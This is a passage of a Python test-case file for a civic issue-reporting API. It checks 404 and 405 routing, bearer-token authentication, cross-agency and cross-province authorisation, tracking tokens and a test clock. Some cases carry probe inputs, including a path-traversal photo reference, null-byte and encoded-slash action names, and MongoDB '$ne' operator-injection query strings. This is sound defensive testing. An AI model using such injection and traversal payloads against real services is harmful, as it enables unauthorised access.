case("result photo of an unknown report", H, Req("GET", f"/api/v1/reports/PA-000000-XXXX/result-photos/{HEX64}"), *NF)
for index, (name, photos) in enumerate([("deadbeef", ["deadbeef"]), ("a 64-hex hash never uploaded", [HEX64]),
                                        ("the reporter's own photo", ["{P4_photo_sha}"]),
                                        ("a path", ["../../media/" + HEX64]),
                                        ("another report's photo", ["{A_photo_sha}"])], start=2):
    key = f"P{index}"
    case(f"submit_result citing {name}", H,
         Req("POST", f"/api/v1/staff/reports/{{{key}}}/submit_result",
             headers={"Authorization": f"Bearer {{{key}_staff}}"},
             json=lambda ctx, photos=photos: {"result_text": "Đã vá ổ gà.",
                                              "after_photos": [p.format_map(ctx) for p in photos]}),
         422, "INVALID_RESULT_PHOTOS", target=key,
         note="beyond the contract" if name in ("a path", "another report's photo") else "")

# ---- routes and methods ---------------------------------------------------------------------------------------------------
R = "routes"
for method, path in [("GET", "/api/v1/nope"), ("GET", "/nope"), ("GET", "/api/v2/reports"), ("POST", "/api/v1/nope"),
                     ("GET", "/api/v1/reports/{A}/nope"), ("GET", "/api/v1/staff/nope")]:
    case(f"{method} {path}", R, Req(method, path), 404, "ROUTE_NOT_FOUND")
for method, path in [("DELETE", "/api/v1/reports/{A}"), ("PUT", "/api/v1/feed"), ("PATCH", "/api/v1/reports/{A}"),
                     ("GET", SUBMIT), ("DELETE", "/api/v1/staff/reports"), ("GET", "/api/v1/_clock/advance"),
                     ("GET", "/api/v1/reports/{A}/cancel"), ("PUT", "/api/v1/reports/{A}/rating")]:
    case(f"{method} {path}", R, Req(method, path, headers={"Authorization": "Bearer {admin}"}), 405,
         "METHOD_NOT_ALLOWED", target="A" if "{A}" in path else None)

# ---- staff authentication and authorisation -------------------------------------------------------------------------------
AUTH = "auth"
ENDPOINTS = [("GET", "/api/v1/staff/reports", None), ("GET", "/api/v1/staff/reports/{A}", None),
             ("POST", "/api/v1/staff/reports/{A}/acknowledge", {}),
             ("GET", f"/api/v1/staff/province-report?pack={PACK}", None)]
for label, header in [("no Authorization", None), ("Bearer nope", "Bearer nope"),
                      ("Basic credentials", "Basic b3BlcmF0b3I6cGFzc3dvcmQ="), ("a 10 KB token", "Bearer " + "a" * 10240)]:
    for method, path, body in ENDPOINTS:
        case(f"{label}: {method} {path}", AUTH,
             Req(method, path, json=body, headers={"Authorization": header} if header else {}),
             401, "UNAUTHORIZED", target="A" if "{A}" in path else None)
for label, header in [("empty Bearer", "Bearer "), ("the tracking token as bearer", "Bearer {A_token}"),
                      ("Token scheme", "Token {operator}"), ("operator token with a suffix", "Bearer {operator}x"),
                      ("Latin-1 token", "Bearer \xe9\xe9\xe9")]:
    case(f"{label}: GET staff reports", AUTH, Req("GET", "/api/v1/staff/reports", headers={"Authorization": header}),
         401, "UNAUTHORIZED")
FB = (403, "FORBIDDEN")
case("another agency acknowledges A", AUTH, Req("POST", "/api/v1/staff/reports/{A}/acknowledge", json={},
                                                headers={"Authorization": "Bearer {other_staff}"}), *FB, target="A")
case("another agency's leader returns A", AUTH,
     Req("POST", "/api/v1/staff/reports/{A}/return", json={"agency": "cong-an", "note": "không thuộc thẩm quyền"},
         headers={"Authorization": "Bearer {other_leader}"}), *FB, target="A")
case("another agency reads A", AUTH, Req("GET", "/api/v1/staff/reports/{A}",
                                         headers={"Authorization": "Bearer {other_staff}"}), *FB)
case("another agency lists A's agency", AUTH, Req("GET", "/api/v1/staff/reports?agency={A_lead}",
                                                  headers={"Authorization": "Bearer {other_staff}"}), *FB)
case("another province's agency acknowledges A", AUTH,
     Req("POST", "/api/v1/staff/reports/{A}/acknowledge", json={},
         headers={"Authorization": "Bearer {other_pack_staff}"}), *FB, also=(NF,), target="A")
case("another province's agency reads A", AUTH,
     Req("GET", "/api/v1/staff/reports/{A}", headers={"Authorization": "Bearer {other_pack_staff}"}), *FB, also=(NF,))
def own_rows_only(answers, ctx) -> list[str]:
    body = answers[-1].json()
    others = sorted({row.get("agency") for row in body.get("agencies", []) if row.get("agency") != ctx["A_lead"]})
    return [f"an agency account sees other agencies' rows: {others[:5]}"] if others else []


case("agency staff reads the province report (its own row only)", AUTH,
     Req("GET", f"/api/v1/staff/province-report?pack={PACK}", headers={"Authorization": "Bearer {A_staff}"}), 200,
     check=own_rows_only, note="beyond the contract")
case("another province's agency reads this province's report", AUTH,
     Req("GET", f"/api/v1/staff/province-report?pack={PACK}", headers={"Authorization": "Bearer {other_pack_staff}"}),
     *NF, also=(FB,), note="beyond the contract")
for action in ["delete", "__init__", "ACKNOWLEDGE", "act", "x" * 300, "acknowledge%00", "judge%2F..", "_clock"]:
    case(f"unknown action {action[:40]}", AUTH,
         Req("POST", f"/api/v1/staff/reports/{{A}}/{action}", json={}, headers={"Authorization": "Bearer {A_staff}"}),
         404, "UNKNOWN_ACTION", also=((404, "ROUTE_NOT_FOUND"),) if "%2F" in action else (), target="A")
case("extend with a naive new_due", AUTH,
     Req("POST", "/api/v1/staff/reports/{P1}/extend", headers={"Authorization": "Bearer {P1_staff}"},
         json={"new_due": "2026-12-01T10:00:00", "note": "cần thêm thời gian"}), *V, target="P1")
for query in ["limit=0", "limit=x", "late=maybe", "limit=-5", "limit=99999999999999999999", "limit=%C2%B2"]:
    case(f"staff query {query}", "query", Req("GET", f"/api/v1/staff/reports?{query}",
                                              headers={"Authorization": "Bearer {operator}"}), *V)


def none_found(answers, ctx) -> list[str]:
    count = answers[-1].json().get("count")
    return [] if count == 0 else [f"an operator-like filter matched {count} reports"]


for name, query in [('state={"$ne": null}', "state=%7B%22%24ne%22%3Anull%7D"),
                    ('agency={"$ne": ""}', "agency=%7B%22%24ne%22%3A%22%22%7D"),
                    ("state[$ne]=x ignored key, state=$ne", "state%5B%24ne%5D=x&state=%24ne")]:
    case(f"staff query {name}", "operator-strings",
         Req("GET", f"/api/v1/staff/reports?{query}", headers={"Authorization": "Bearer {operator}"}), 200,
         check=none_found)

# ---- the reporter's tracking token ----------------------------------------------------------------------------------------
TR = "tracking"
ROUTES = {"supplement": {"description": "Bổ sung thông tin"}, "cancel": {}, "rating": lambda ctx: {"level": ctx["level"]},
          "interactions": {"message": "Khi nào xử lý?"}}
for route, body in ROUTES.items():
    for label, headers in [("no token", {}), ("a wrong token", {"X-Tracking-Token": "nope"}),
                           ("another report's token", {"X-Tracking-Token": "{C_token}"}),
                           ("a 10 KB token", {"X-Tracking-Token": "t" * 10240})]:
        case(f"{route} with {label}", TR, Req("POST", f"/api/v1/reports/{{A}}/{route}", json=body, headers=headers),
             403, "INVALID_TOKEN", target="A")
NA = (409, "ACTION_NOT_ALLOWED")
for name, key, route in [("supplement a dispatched report", "A", "supplement"),
                         ("rate a dispatched report", "A", "rating"),
                         ("cancel a report in progress", "PC", "cancel"),
                         ("interact on a cancelled report", "C", "interactions"),
                         ("cancel a cancelled report", "C", "cancel"),
                         ("supplement a cancelled report", "C", "supplement")]:
    case(name, TR, Req("POST", f"/api/v1/reports/{{{key}}}/{route}", json=ROUTES[route],
                       headers={"X-Tracking-Token": f"{{{key}_token}}"}), *NA, target=key)

# ---- test clock -------------------------------------------------------------------------------------------------------------
CLK = "clock"
ADV = "/api/v1/_clock/advance"
case("advance the clock without a token", CLK, Req("POST", ADV, json={"seconds": 1}), 401, "UNAUTHORIZED")
case("advance the clock with Bearer nope", CLK, Req("POST", ADV, json={"seconds": 1},
                                                    headers={"Authorization": "Bearer nope"}), 401, "UNAUTHORIZED")
case("advance the clock as the operator", CLK, Req("POST", ADV, json={"seconds": 1},
                                                   headers={"Authorization": "Bearer {operator}"}), *FB)
case("advance the clock as agency staff", CLK, Req("POST", ADV, json={"seconds": 1},
                                                   headers={"Authorization": "Bearer {A_staff}"}), *FB)
case("advance the clock as admin, negative seconds", CLK, Req("POST", ADV, json={"seconds": -5},
                                                              headers={"Authorization": "Bearer {admin}"}), *V)
case("advance the clock as admin, NaN", CLK, Req("POST", ADV, raw=b'{"seconds": NaN}', content_type="application/json",
                                                 headers={"Authorization": "Bearer {admin}"}), 400, "INVALID_JSON")
case("advance the clock as admin", CLK, Req("POST", ADV, json={"seconds": 1},
                                            headers={"Authorization": "Bearer {admin}"}), 200)


def by_kind(cases=None) -> dict[str, int]:
    return dict(sorted(Counter(c.kind for c in (cases or CASES)).items()))


assert len({c.name for c in CASES}) == len(CASES), [n for n, k in Counter(c.name for c in CASES).items() if k > 1]

if __name__ == "__main__":
    for kind, count in by_kind().items():
        print(f"{kind:<18} {count}")
    print(f"{'total':<18} {len(CASES)}")
